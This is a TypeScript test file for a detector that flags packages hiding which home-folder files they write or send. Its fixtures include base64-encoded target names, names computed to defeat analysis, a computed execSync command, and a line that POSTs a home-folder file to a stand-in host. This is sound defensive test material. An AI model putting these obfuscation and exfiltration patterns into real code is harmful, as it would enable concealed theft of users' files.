import { examine } from '../../../test/examine.ts';
import { concealsTargets } from './conceals-targets.ts';

/** Writes into a folder of the home whose name `by` gives. */
const written = (by: string): string =>
  `const fs = require('fs'), os = require('os'), path = require('path'); ${by}; fs.writeFileSync(path.join(os.homedir(), name), 'INERT-MARKER')`;

examine(concealsTargets, {
  speaks: [
    {
      when: 'the name of a file of somebody is encoded',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.writeFileSync(path.join(os.homedir(), Buffer.from('LmluZXJ0L3NldHRpbmdzLmpzb24=', 'base64').toString()), 'INERT-MARKER')`,
      },
      says: ['decodes the name of what it writes (<home>/.inert/settings.json)'],
      weight: 'strong',
    },
    {
      when: 'a folder of somebody is written out, and the name in it is encoded',
      files: {
        'index.js': `require('fs').writeFileSync('/Us' + 'ers/inert/' + Buffer.from('LmluZXJ0L3NldHRpbmdzLmpzb24=', 'base64').toString(), 'INERT-MARKER')`,
      },
      says: ['decodes the name of what it writes'],
      weight: 'strong',
    },
    {
      when: 'what comes into a file of somebody is encoded in the package',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.writeFileSync(path.join(os.homedir(), '.inert', 'settings.json'), Buffer.from('SU5FUlQtTUFSS0VS', 'base64').toString())`,
      },
      says: ['decodes what it writes'],
      weight: 'strong',
    },
    {
      when: 'a file is sent whose name is calculated',
      files: {
        'index.js': `const name = new Intl.NumberFormat('en').format(7e4); fetch('https://x.inert.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/' + name, 'utf8') })`,
      },
      says: ['and sends it'],
      weight: 'strong',
    },
    {
      when: 'the same is also done where somebody calls it',
      files: {
        'index.js': `const go = () => { ${written(`const name = new Intl.NumberFormat('en').format(7e4)`)} }; exports.go = go; go();`,
      },
      weight: 'strong',
    },
    {
      when: 'the folder is one that the environment names',
      files: {
        'index.js': `require('fs').writeFileSync(process.env.APPDATA + '/' + new Intl.NumberFormat('en').format(7e4), 'INERT-MARKER')`,
      },
      weight: 'strong',
    },
    ...[
      [`[a, key] = [key, (a + key) % 251]`, 'two variables are exchanged in each round'],
      [`step()`, 'a function that is called in each round counts'],
      [`box.turn()`, 'an object counts in each round'],
      [`box.k = (box.k * 7 + i) % 251; key = box.k`, 'a member is stored in, in each round'],
    ].map(([round = '', when = '']) => ({
      when: `a loop runs longer than is followed, where ${when}`,
      files: {
        'index.js': written(
          `let a = 1, key = 2; const box = { k: 1, turn() { this.k = (this.k * 7) % 251; key = this.k; } }; function step() { key = (key * 7) % 251; } for (let i = 0; i < 1e9; i++) { ${round} } const name = [101, 118].map(c => String.fromCharCode(c ^ key)).join('')`,
        ),
      },
      weight: 'strong' as const,
    })),
    {
      when: 'a letter of a table is taken whose place was not followed',
      files: {
        'index.js': written(
          `const at = new Intl.Collator('en').compare('a', 'b'); const name = ['ab', 'cd', 'ef'][at + 1] + new Map([[0, 'x']]).get(at)`,
        ),
      },
      weight: 'strong',
    },
    {
      when: 'a name is calculated by something of the language that is not followed',
      files: {
        'index.js': written(
          `const key = new Intl.NumberFormat('en').format(70000).length; const name = [101, 118].map(c => String.fromCharCode(c - key)).join('')`,
        ),
      },
      says: ['<home>/*'],
      weight: 'strong',
    },
    {
      when: 'a loop runs longer than is followed',
      files: {
        'index.js': written(
          `let key = 1; for (let i = 0; i < 1e9; i++) key = key * 7 % 251; const name = [101, 118].map(c => String.fromCharCode(c ^ key)).join('')`,
        ),
      },
      weight: 'strong',
    },
    {
      when: 'a function calls itself more often than is followed',
      files: {
        'index.js': written(`const sum = n => (n === 0 ? 0 : n + sum(n - 1)); const name = String.fromCharCode(sum(5000) % 251, 98)`),
      },
      weight: 'strong',
    },
    {
      when: 'a list is longer than is gone through',
      files: { 'index.js': written(`const all = 'x'.repeat(90000).split(''); const name = String.fromCharCode(all.length % 251, 98)`) },
      weight: 'strong',
    },
    {
      when: 'a generator gives out more than is taken',
      files: {
        'index.js': written(
          `function* count() { for (let i = 0; i < 900; i++) yield i; } let name = ''; for (const one of count()) name = String(one)`,
        ),
      },
      weight: 'strong',
    },
    {
      when: 'a command is calculated',
      files: {
        'index.js': `const order = new Intl.Collator('en'); require('child_process').execSync(String.fromCharCode(99 + order.compare('a', 'a'), 117))`,
      },
      says: ['the command'],
    },
    {
      when: 'it happens when it is called',
      files: { 'index.js': `exports.go = () => { ${written(`const name = new Intl.NumberFormat('en').format(7e4)`)} }` },
      weight: 'context',
    },
  ],
  silent: [
    {
      when: 'what a server answers is decoded and kept',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fetch('https://settings.specimen.invalid/').then(answer => answer.json()).then(answer => fs.writeFileSync(path.join(os.homedir(), '.specimen.json'), Buffer.from(answer.config, 'base64').toString()))`,
      },
    },
    {
      when: 'a file of somebody is called by the hash of what is in it',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.keep = text => fs.writeFileSync(path.join(os.homedir(), '.specimen', require('crypto').createHash('sha256').update(text).digest('hex') + '.json'), text)`,
      },
    },
    {
      when: 'a file of the package itself has an encoded name',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(__dirname, Buffer.from('Y2FjaGUuanNvbg==', 'base64').toString()), '{}')`,
      },
    },
    {
      when: 'a part of a name is calculated',
      files: { 'index.js': `require('fs').writeFileSync('./out/copyright-' + new Intl.NumberFormat('en').format(7e4) + '.txt', 'a')` },
    },
    {
      when: 'a host is asked with something calculated',
      files: { 'index.js': `fetch('https://api.inert.invalid/x?' + new URLSearchParams({ a: 1 }))` },
    },
    { when: 'a moment is told as it is called where it runs', files: { 'index.js': written(`const name = new Date(0).getHours() + 'h'`) } },
    {
      when: 'what is handed to a generator names it',
      files: {
        'index.js': written(
          `function* saga() { const got = yield { type: 'ask' }; require('fs').writeFileSync('/x/' + got, 'a'); } exports.saga = saga; saga().next(); const name = 'a'`,
        ),
      },
    },
    {
      when: 'a function that is wrapped tells it',
      files: { 'index.js': written(`const name = require('util').deprecate(() => process.env.WHERE, 'x')()`) },
    },
    {
      when: 'whoever calls says which',
      files: { 'index.js': `exports.go = one => { ${written(`const name = new Intl.Collator(one).toString()`)} }` },
    },
    { when: 'the world says which', files: { 'index.js': written(`const name = new Date().toISOString() + process.pid + Math.random()`) } },
    {
      when: 'it is calculated to its end',
      files: {
        'index.js': written(`let name = ''; for (let i = 0; i < 26; i++) name += String.fromCharCode(97 + i)`).replace(
          'os.homedir()',
          '__dirname',
        ),
      },
    },
    {
      when: 'the code of a function is put into other code',
      files: { 'index.js': `const read = source => source.length; new Function('let at; return ' + read.toString())` },
    },
    {
      when: 'nothing is given that was lost on the way',
      files: { 'index.js': `const uri = require('url').parse(exports.address); require('tls').connect({ host: uri.hostname })` },
    },
  ],
});
